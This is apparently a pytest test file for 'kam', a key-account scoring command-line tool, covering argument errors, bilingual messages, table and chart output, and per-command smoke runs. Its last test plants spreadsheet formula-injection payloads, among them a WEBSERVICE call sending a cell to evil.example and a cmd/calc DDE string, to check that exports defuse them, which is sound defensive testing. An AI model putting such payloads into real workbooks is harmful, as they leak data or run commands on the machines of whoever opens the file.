"""The `kam` command: what it hands to the library, and one end-to-end run per command."""

import pandas as pd
import pytest

from kamlib import cli
from tests.kam import run_kam


def test_score_hands_scenario_cuts_and_period_to_the_library(monkeypatch, tmp_path, tiny_path):
    seen = {}

    def fake_score(engagement, weights, cuts, period, position_by, segment_weights):
        seen.update(name=engagement.name, weights=weights, cuts=cuts, period=period, position_by=position_by)
        return pd.DataFrame({"account_id": ["A1"]})

    monkeypatch.setattr("kamlib.scoring.score_accounts", fake_score)
    scenario = tmp_path / "s.yaml"
    scenario.write_text("name: t\nweights: {growth: 3}\ncuts: {potential: 6}\n", encoding="utf-8")
    out = tmp_path / "o.csv"
    code = cli.main(
        [
            "score",
            str(tiny_path),
            "--scenario",
            str(scenario),
            "--period",
            "2026-H1",
            "--cut-position",
            "median",
            "--out",
            str(out),
        ]
    )
    assert code == 0
    assert seen == {
        "name": "tiny",
        "weights": {"growth": 3.0},
        "cuts": {"potential": 6.0, "position": "median"},
        "period": "2026-H1",
        "position_by": "ours",
    }
    assert out.read_text(encoding="utf-8-sig").splitlines() == ["account_id", "A1"]


def test_validate_end_to_end(tiny_path):
    result = run_kam("validate", tiny_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        "tiny: 4 accounts, 4 criteria (2 potential, 2 position), 18 scores, 2 KAMs, 6 time records; key-account "
        "plan: 4 people on decision maps, 4 KPI rows, 5 customers with 25 selection scores"
    )
    spanish = run_kam("--lang", "es", "validate", tiny_path)
    assert spanish.stdout.startswith("tiny: 4 cuentas, 4 criterios (2 de potencial, 2 de posición), 18 puntuaciones")
    table = run_kam("--lang", "es", "score", tiny_path, "--out", "x.txt")
    assert table.returncode == 2 and "formato de tabla no admitido '.txt'" in table.stderr


def test_score_end_to_end_csv_and_xlsx(tmp_path, tiny_path):
    csv_out, xlsx_out = tmp_path / "scored.csv", tmp_path / "scored.xlsx"
    for out in (csv_out, xlsx_out):
        result = run_kam("score", tiny_path, "--out", out)
        assert result.returncode == 0, result.stderr
    table = pd.read_csv(csv_out)
    needed = ["account_id", "name", "potential", "position", "quadrant", "strategy_es", "strategy_en"]
    assert set(needed) <= set(table.columns)
    assert table["quadrant"].tolist() == ["invest", "selective", "maintain", "milk"]
    assert table["strategy_es"].tolist() == ["Invertir", "Inversión selectiva", "Mantener", "Ordeñar"]
    pd.testing.assert_frame_equal(pd.read_excel(xlsx_out, engine="openpyxl")[needed], table[needed])


def test_score_to_standard_output(tiny_path):
    result = run_kam("score", tiny_path)
    assert result.returncode == 0
    assert result.stdout.splitlines()[1].startswith("A1,Supermercados Peñíscola,gran distribución,K1,2500000.0,8.333")


def test_score_with_chart_writes_offline_html(tmp_path, tiny_path):
    chart = tmp_path / "matrix.html"
    result = run_kam("--lang", "en", "score", tiny_path, "--out", tmp_path / "s.csv", "--chart", chart)
    assert result.returncode == 0, result.stderr
    html = chart.read_text(encoding="utf-8")
    assert "Selective investment" in html and "Supermercados Peñíscola" in html
    assert "cdn.jsdelivr" not in html and '<script src="http' not in html


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["score", "{tiny}", "--out", "{tmp}/x.txt"], "unsupported table format '.txt'; allowed: .csv, .xlsx"),
        (["score", "{tiny}", "--chart", "{tmp}/x.gif"], "unsupported chart format '.gif'; allowed: .html, .svg"),
        (["score", "{tiny}", "--cut-position", "abc"], "unknown cut line 'abc' for axis position"),
        (["score", "{tiny}", "--scenario", "{tmp}/none.yaml"], "none.yaml: no such scenario file"),
        (["score", "{tiny}", "--cut-potential", "12"], "cut line 12.0 for axis potential is outside 0 to 10"),
        (["validate", "{tmp}/missing.xlsx"], "missing.xlsx: no such file or folder."),
        (["template", "{tmp}/t.csv"], "unsupported template format '.csv'; allowed: .xlsx"),
        (["score", "{tiny}", "--live", "{tmp}/l.svg"], "unsupported live matrix format '.svg'; allowed: .html"),
        (["report", "{tiny}", "--level", "-1", "--out", "{tmp}/r"], "--level -1: allowed: 0 or more"),
        (["serve", "{tiny}", "--level", "-2"], "--level -2: allowed: 0 or more"),
    ],
)
def test_bad_requests_exit_2_with_one_clear_line(tmp_path, tiny_path, args, message):
    args = [a.format(tiny=tiny_path, tmp=tmp_path) for a in args]
    result = run_kam(*args)
    assert result.returncode == 2
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert not any(p.suffix in (".csv", ".txt", ".gif", ".xlsx") for p in tmp_path.iterdir())


def test_messages_follow_lang(tmp_path):
    result = run_kam("--lang", "es", "validate", tmp_path / "nada.xlsx")
    assert result.returncode == 2
    assert result.stderr.strip() == "nada.xlsx: no existe ese archivo ni carpeta."


def test_unplaced_accounts_are_named_on_stderr(tiny_path):
    result = run_kam("score", tiny_path, "--period", "2025-H2")
    assert result.returncode == 0
    assert (
        "warning: 4 account(s) left out of the matrix: A1 (no weighted score on potential, position)" in result.stderr
    )
    spanish = run_kam("--lang", "es", "score", tiny_path, "--period", "2025-H2")
    assert (
        "aviso: 4 cuenta(s) fuera de la matriz: A1 (sin puntuación con peso en potential, position)" in spanish.stderr
    )


def test_template_end_to_end(tmp_path):
    out = tmp_path / "plantilla.xlsx"
    result = run_kam("template", out)
    assert result.returncode == 0, result.stderr
    sheets = pd.read_excel(out, sheet_name=None, engine="openpyxl")
    assert {"accounts", "criteria", "scores", "kams", "time"} <= set(sheets)
    assert list(sheets["criteria"].columns[:5]) == ["criterion_id", "axis", "label_es", "label_en", "weight"]


def test_table_and_charts_are_written_all_or_none(tmp_path, tiny_path):
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    result = run_kam("score", tiny_path, "--out", tmp_path / "t.csv", "--chart", tmp_path / "afile" / "m.svg")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile"]
    (tmp_path / "d.csv").mkdir()
    result = run_kam("score", tiny_path, "--out", tmp_path / "d.csv")
    assert result.returncode == 2 and "d.csv: is a folder; give a file name" in result.stderr


def test_lang_may_follow_the_command(tmp_path):
    after = run_kam("validate", tmp_path / "nada.xlsx", "--lang", "es")
    assert after.returncode == 2 and after.stderr.strip() == "nada.xlsx: no existe ese archivo ni carpeta."


SMOKE = {  # one run of each command as a real process: the entry point, argument parsing and exit code
    "validate": ("validate", "{tiny}"),
    "template": ("template", "{tmp}/blank.xlsx"),
    "sample": ("sample", "{tmp}/muestra"),
    "score": ("score", "{tiny}", "--out", "{tmp}/scored.csv"),
    "time": ("time", "{tiny}", "--out", "{tmp}/time.csv"),
    "compare": ("compare", "{tiny}", "{tmp}/s.yaml"),
    "robustness": ("robustness", "{tiny}", "--draws", "200", "--seed", "1"),
    "select": ("select", "{tiny}", "--out", "{tmp}/select.csv"),
    "assign": ("assign", "{sample}", "--out", "{tmp}/plan.csv"),
    "ingest": ("ingest", "{ledger}/ventas.csv", "{tmp}/copy", "--map", "{ledger}/ventas.yaml", "--no-scores"),
    "deck": ("deck", "{tiny}", "--out", "{tmp}/deck.pptx"),
}


@pytest.mark.parametrize("command", sorted(SMOKE))
def test_each_command_runs_as_a_process(command, tmp_path, tiny_path):
    import shutil

    from kamlib.engagement import SAMPLE_LEDGER_PATH, SAMPLE_PATH
    from tests.kam import kam_process

    (tmp_path / "s.yaml").write_text("name: t\nweights: {growth: 3}\n", encoding="utf-8")
    shutil.copytree(SAMPLE_PATH, tmp_path / "copy")
    where = {"tiny": tiny_path, "tmp": tmp_path, "sample": SAMPLE_PATH, "ledger": SAMPLE_LEDGER_PATH}
    result = kam_process(*(a.format(**where) for a in SMOKE[command]), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr


def test_every_command_has_a_smoke_test():
    from kamlib.cli import build_parser

    commands = set(build_parser()._subparsers._group_actions[0].choices)
    # run as processes in test_reports.py, test_serve.py and tests/room/test_resume.py
    assert commands - set(SMOKE) == {"report", "serve", "workshop"}


PAYLOADS = {  # issue 18, finding 1: workbook text that a spreadsheet would run as a formula
    ("accounts", "Supermercados Peñíscola"): '=WEBSERVICE("http://evil.example/?"&B2)',
    ("accounts", "Hoteles Mirasol"): '=HYPERLINK("http://evil.example","x")',
    ("kams", "Jordi Ibáñez"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("customers", "Supermercados Peñíscola"): "+1+1",
}
OUTPUTS = {
    "score": ("score", "{wb}", "--out", "{out}"),
    "time": ("time", "{wb}", "--out", "{out}"),
    "compare": ("compare", "{wb}", "{scenario}", "--out", "{out}"),
    "robustness": ("robustness", "{wb}", "--draws", "200", "--seed", "1", "--out", "{out}"),
    "select": ("select", "{wb}", "--out", "{out}"),
    "assign": ("assign", "{wb}", "--out", "{out}"),
}


@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_no_workbook_text_becomes_a_formula_in_any_table_kam_writes(command, tmp_path, tiny_path):
    import csv
    import shutil

    import openpyxl

    from kamlib.fileio import FORMULA_START

    wb = tmp_path / "wb"
    shutil.copytree(tiny_path, wb)
    for (sheet, old), new in PAYLOADS.items():
        path = wb / f"{sheet}.csv"
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace(old, '"' + new.replace('"', '""') + '"'), encoding="utf-8")
    (tmp_path / "s.yaml").write_text("name: t\nweights: {service: 0}\ncuts: {potential: 8}\n", encoding="utf-8")
    shown = set()
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"{command}{suffix}"
        where = {"wb": wb, "out": out, "scenario": tmp_path / "s.yaml"}
        result = run_kam(*(a.format(**where) for a in OUTPUTS[command]))
        assert result.returncode == 0, result.stderr
        if suffix == ".csv":
            rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
            cells = [c for row in rows for c in row if c.startswith(FORMULA_START)]
            assert all(c.lstrip("-").replace(".", "", 1).isdigit() for c in cells), cells  # negative numbers only
            shown |= {c for row in rows for c in row if c.startswith("'")}
        else:
            sheet = openpyxl.load_workbook(out).active
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
            texts = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
            shown |= {"'" + t for t in texts if t in PAYLOADS.values()}
    assert shown & {"'" + p for p in PAYLOADS.values()}  # the table did carry a payload, made harmless
